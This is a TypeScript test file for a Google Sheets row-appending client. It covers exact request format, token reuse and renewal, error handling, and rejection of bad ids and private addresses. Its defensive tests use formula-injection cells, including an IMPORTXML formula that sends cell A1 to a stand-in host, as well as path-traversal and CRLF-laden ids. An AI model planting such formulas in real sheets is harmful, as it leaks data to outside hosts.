import { describe, expect, test } from 'vitest';
import { type Answering, answeringServer, deafPort, socketServer } from '../../test/support/answering-server.ts';
import { serviceAccount } from '../../test/support/google-key-file.ts';
import { systemClock } from '../base/clock.ts';
import { AccessTokens } from './access-tokens.ts';
import { type AppendOptions, appendRow, type Row, rangeOf } from './google-sheets.ts';

const row: Row = { spreadsheetId: '1aB_-9', range: 'A:C', cells: ['a'] };
const appended = { spreadsheetId: '1aB_-9', updates: { updatedRange: "'Ann''s'!A7:D7", updatedRows: 1 } };
const request = { allowPrivate: true, timeoutMs: 1000 };

async function signIn(answer?: Answering) {
  const granting: Answering = (response, _, count) =>
    response.end(JSON.stringify({ access_token: `token-${count}`, expires_in: 3600 }));
  const server = await answeringServer(answer ?? granting);
  const tokens = new AccessTokens(systemClock, request);
  return { server, tokens, account: serviceAccount({ token_uri: `${server.url}/token` }) };
}

async function start(answer: Answering) {
  const google = await answeringServer(answer);
  const { server: signInServer, tokens, account } = await signIn();
  const options: AppendOptions = { account, tokens, baseUrl: google.url, request };
  return { google, signInServer, options };
}

describe('appending a row', () => {
  test('sends what the protocol asks for, to the byte', async () => {
    const { google, options } = await start((response) => response.end(JSON.stringify(appended)));
    const range = rangeOf({ sheet: "Ann's 50% / Ü?", cells: 'A:D' });
    const answer = await appendRow({ ...row, range, cells: ['Grüße', 7.5, true, null] }, options);
    expect(answer).toEqual({ kind: 'done', updatedRange: "'Ann''s'!A7:D7" });
    const body = '{"majorDimension":"ROWS","values":[["Grüße",7.5,true,null]]}';
    expect(google.heard).toEqual([
      {
        method: 'POST',
        path:
          "/v4/spreadsheets/1aB_-9/values/'Ann''s%2050%25%20%2F%20%C3%9C%3F'!A%3AD:append" +
          '?valueInputOption=RAW&insertDataOption=INSERT_ROWS',
        headers: {
          host: `127.0.0.1:${google.port}`,
          authorization: 'Bearer token-1',
          'content-type': 'application/json; charset=utf-8',
          'content-length': String(Buffer.byteLength(body)),
          accept: 'application/json',
          'accept-encoding': 'identity',
          'user-agent': 'Baton',
          connection: 'close',
        },
        body,
        localAddress: '127.0.0.1',
      },
    ]);
  });

  test.each(['=IMPORTXML("http://a.test/"&A1,"//a")', '+1', '-1', '@SUM(A1)', '\t=1', "'=1", '{{secret}}'])(
    '[X25] sends %j as it is and asks for it to be stored as it is',
    async (cell) => {
      const { google, options } = await start((response) => response.end(JSON.stringify(appended)));
      await appendRow({ ...row, cells: [cell] }, options);
      const [heard] = google.heard;
      expect(new URLSearchParams(heard?.path.split('?')[1]).get('valueInputOption')).toBe('RAW');
      expect(JSON.parse(heard?.body ?? '')).toEqual({ majorDimension: 'ROWS', values: [[cell]] });
    },
  );

  test('tolerates a slash at the end of the base address', async () => {
    const { google, options } = await start((response) => response.end(JSON.stringify(appended)));
    await appendRow(row, { ...options, baseUrl: `${options.baseUrl}/` });
    expect(google.heard[0]?.path).toMatch(/^\/v4\/spreadsheets\/1aB_-9\/values\/A%3AC:append\?/);
  });

  test('uses one token for many rows', async () => {
    const { google, signInServer, options } = await start((response) => response.end(JSON.stringify(appended)));
    await Promise.all([appendRow(row, options), appendRow(row, options)]);
    await appendRow(row, options);
    expect(google.heard.map(({ headers }) => headers.authorization)).toEqual(Array(3).fill('Bearer token-1'));
    expect(signInServer.heard).toHaveLength(1);
  });

  test('renews a token that is not taken, once', async () => {
    const { google, options } = await start((response, { headers }) =>
      headers.authorization === 'Bearer token-1'
        ? response.writeHead(401).end()
        : response.end(JSON.stringify(appended)),
    );
    expect(await appendRow(row, options)).toMatchObject({ kind: 'done' });
    expect(await appendRow(row, options)).toMatchObject({ kind: 'done' });
    const sent = google.heard.map(({ headers, body }) => [headers.authorization, body]);
    const body = '{"majorDimension":"ROWS","values":[["a"]]}';
    expect(sent).toEqual([
      ['Bearer token-1', body],
      ['Bearer token-2', body],
      ['Bearer token-2', body],
    ]);
  });

  test('gives up when the renewed token is not taken either', async () => {
    const error = { code: 401, message: 'Request had invalid authentication credentials.', status: 'UNAUTHENTICATED' };
    const { google, options } = await start((response) => response.writeHead(401).end(JSON.stringify({ error })));
    expect(await appendRow(row, options)).toEqual({
      kind: 'refused',
      status: 401,
      code: 'UNAUTHENTICATED',
      message: 'Request had invalid authentication credentials.',
      isRetryable: false,
      retryAfterSeconds: null,
    });
    expect(google.heard).toHaveLength(2);
  });
});

test.each([
  [{ sheet: 'Sheet1' }, "'Sheet1'"],
  [{ sheet: 'Sheet1', cells: 'A1' }, "'Sheet1'!A1"],
  [{ sheet: "It's", cells: 'A:D' }, "'It''s'!A:D"],
  [{ sheet: 'A1!B2' }, "'A1!B2'"],
])('the range of %j is %s', (sheet, range) => {
  expect(rangeOf(sheet)).toBe(range);
});

describe('a row that is refused', () => {
  const said = (status: string, message: string) => JSON.stringify({ error: { code: 1, message, status } });
  test.each<[number, string, object]>([
    [
      403,
      said('PERMISSION_DENIED', 'The caller does not have permission'),
      { code: 'PERMISSION_DENIED', message: 'The caller does not have permission', isRetryable: false },
    ],
    [
      404,
      said('NOT_FOUND', 'Requested entity was not found.'),
      { code: 'NOT_FOUND', message: 'Requested entity was not found.', isRetryable: false },
    ],
    [
      400,
      said('INVALID_ARGUMENT', 'Unable to parse range: x'),
      { code: 'INVALID_ARGUMENT', message: 'Unable to parse range: x', isRetryable: false },
    ],
    [
      429,
      said('RESOURCE_EXHAUSTED', 'Quota exceeded'),
      { code: 'RESOURCE_EXHAUSTED', message: 'Quota exceeded', isRetryable: true, retryAfterSeconds: 30 },
    ],
    [500, '<html>oops', { code: 'http_error', message: 'The answer was 500.', isRetryable: true }],
    [503, said('UNAVAILABLE', 'Later'), { code: 'UNAVAILABLE', message: 'Later', isRetryable: true }],
    [403, '', { code: 'http_error', message: 'The answer was 403.', isRetryable: false }],
    [302, '{"error":"x"}', { code: 'http_error', message: 'The answer was 302.', isRetryable: false }],
  ])('by %i with %j', async (status, body, expected) => {
    const { google, options } = await start((response) =>
      response.writeHead(status, { location: '/x', ...(status === 429 && { 'retry-after': '30' }) }).end(body),
    );
    const answer = await appendRow(row, options);
    expect(answer).toEqual({ kind: 'refused', status, retryAfterSeconds: null, ...expected });
    expect(google.heard).toHaveLength(1);
  });

  test.each(['', '..', '.', '1/../2', '1?a', '1#a', 'https://docs.google.com/spreadsheets/d/1/edit', 'ü', '1\r\n'])(
    'without being sent, because %j is no id',
    async (spreadsheetId) => {
      const { google, signInServer, options } = await start((response) => response.end());
      const answer = await appendRow({ ...row, spreadsheetId }, options);
      expect(answer).toMatchObject({
        kind: 'refused',
        status: null,
        code: 'invalid_spreadsheet_id',
        isRetryable: false,
      });
      expect([...google.heard, ...signInServer.heard]).toEqual([]);
    },
  );

  test('without being sent, because nobody is signed in', async () => {
    const { google, options } = await start((response) => response.end());
    for (const [status, isRetryable] of [
      [400, false],
      [500, true],
    ] as const) {
      const { tokens, account } = await signIn((response) => response.writeHead(status).end());
      expect(await appendRow(row, { ...options, tokens, account })).toMatchObject({
        kind: 'refused',
        status: null,
        code: 'sign_in_failed',
        isRetryable,
      });
    }
    expect(google.heard).toEqual([]);
  });

  test('without being sent, because nobody listens, or the address is a private one', async () => {
    const { google, options } = await start((response) => response.end());
    const refused = { kind: 'refused', status: null };
    expect(await appendRow(row, { ...options, baseUrl: `http://127.0.0.1:${await deafPort()}` })).toMatchObject({
      ...refused,
      code: 'unreachable',
      isRetryable: true,
    });
    expect(await appendRow(row, { ...options, request: {} })).toMatchObject({
      ...refused,
      code: 'forbidden',
      isRetryable: false,
    });
    expect(google.heard).toEqual([]);
  });
});

describe('a row of which nobody knows', () => {
  const once = async (options: AppendOptions, why: string): Promise<void> => {
    expect(await appendRow(row, options)).toEqual({ kind: 'unknown', why: expect.stringContaining(why) });
  };

  test('because no answer came in time, is not sent again', async () => {
    const { google, options } = await start(() => {});
    await once(options, 'It took too long.');
    expect(google.heard).toHaveLength(1);
  });

  test('because the connection broke, is not sent again', async () => {
    const { options } = await start(() => {});
    let connections = 0;
    const { url } = await socketServer((socket) => {
      connections++;
      socket.once('data', () => socket.destroy());
    });
    await once({ ...options, baseUrl: url }, '');
    expect(connections).toBe(1);
  });

  test.each(['', '{}', '{"updates":{"updatedRange":1}}', '<html>Welcome to our Wi-Fi', '[]', 'null', '{"updates":'])(
    'because the answer 200 is %j, is not sent again',
    async (body) => {
      const { google, options } = await start((response) => response.end(body));
      await once(options, 'does not say which range');
      expect(google.heard).toHaveLength(1);
    },
  );

  test('because Google ran out of time, which does not say that nothing was done', async () => {
    const { google, options } = await start((response) =>
      response.writeHead(504).end('{"error":{"status":"DEADLINE_EXCEEDED","message":"Deadline exceeded"}}'),
    );
    await once(options, 'Deadline exceeded');
    expect(google.heard).toHaveLength(1);
  });
});
